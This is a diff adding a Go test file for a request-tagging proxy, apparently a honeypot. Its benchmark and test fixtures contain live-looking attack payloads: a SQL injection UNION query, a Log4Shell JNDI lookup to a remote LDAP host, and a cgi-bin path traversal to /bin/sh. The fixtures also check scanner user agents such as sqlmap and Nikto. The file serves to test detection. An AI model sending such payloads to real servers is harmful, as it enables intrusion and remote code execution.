@@ -0,0 +1,103 @@
+package stuffpot
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+// benchRequests are requests as the proxy sees them, with the payload tags
+// the default rules give them.
+func benchRequests() []struct {
+	name string
+	req  *http.Request
+	want []string
+} {
+	browser := httptest.NewRequest("GET", "http://shop.example/products/42?ref=home&utm_source=newsletter", nil)
+	browser.Header = http.Header{
+		"User-Agent": {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " +
+			"Chrome/125.0.0.0 Safari/537.36"},
+		"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
+		"Accept-Language": {"en-US,en;q=0.9"},
+		"Accept-Encoding": {"gzip, deflate, br"},
+		"Cookie":          {"session=4f6c1b2a9e; _ga=GA1.2.123456789.1717200000; theme=dark"},
+		"Referer":         {"http://shop.example/"},
+	}
+	sqli := httptest.NewRequest("GET", "http://a.example/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL,"+
+		"concat(user(),0x3a,version()),NULL--%20-", nil)
+	sqli.Header = http.Header{"User-Agent": {"sqlmap/1.8.4#stable (https://sqlmap.org)"}, "Accept": {"*/*"}}
+	jndi := httptest.NewRequest("GET", "http://a.example/", nil)
+	jndi.Header = http.Header{"User-Agent": {"${jndi:ldap://198.51.100.7:1389/a}"},
+		"X-Api-Version": {"${jndi:ldap://198.51.100.7:1389/a}"}, "Accept": {"*/*"}}
+	traversal := httptest.NewRequest("GET", "http://a.example/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", nil)
+	traversal.Header = http.Header{"User-Agent": {"Mozilla/5.0"}}
+	long := httptest.NewRequest("GET", "http://a.example/search?q="+strings.Repeat("lorem+ipsum+dolor+", 200), nil)
+	long.Header = browser.Header
+	return []struct {
+		name string
+		req  *http.Request
+		want []string
+	}{
+		{"browser", browser, nil},
+		{"sqlmap", sqli, []string{"sqli", "scanner"}},
+		{"log4shell", jndi, []string{"log4shell", "log4shell"}},
+		{"traversal", traversal, []string{"path-traversal", "cmd-injection"}},
+		{"long-query", long, nil},
+	}
+}
+
+// BenchmarkTagPayloads gives the cost of the payload tagging of a request,
+// with the default rules.
+func BenchmarkTagPayloads(b *testing.B) {
+	rules, err := loadRules(nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	for _, br := range benchRequests() {
+		b.Run(br.name, func(b *testing.B) {
+			var got []string
+			for _, m := range rules.detect(br.req) {
+				got = append(got, m.Tag)
+			}
+			if fmt.Sprint(got) != fmt.Sprint(br.want) {
+				b.Fatalf("tagged %v, want %v", got, br.want)
+			}
+			b.ReportAllocs()
+			b.ResetTimer()
+			for i := 0; i < b.N; i++ {
+				rules.detect(br.req)
+			}
+		})
+	}
+}
+
+func TestScannerUserAgentsAreTagged(t *testing.T) {
+	rules, err := loadRules(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		header, value string
+		want          bool
+	}{
+		{"User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)", true},
+		{"User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", true},
+		{"User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)", true},
+		{"User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", true},
+		{"User-Agent", "curl/8.5.0", false},
+		{"User-Agent", "nucleiform/1.0", false},
+		{"Referer", "https://sqlmap.org/", false},
+	} {
+		req := httptest.NewRequest("GET", "http://a.example/", nil)
+		req.Header.Set(tc.header, tc.value)
+		var got bool
+		for _, m := range rules.detect(req) {
+			got = got || m.Tag == "scanner"
+		}
+		if got != tc.want {
+			t.Errorf("%v: %v: tagged scanner %v, want %v", tc.header, tc.value, got, tc.want)
+		}
+	}
+}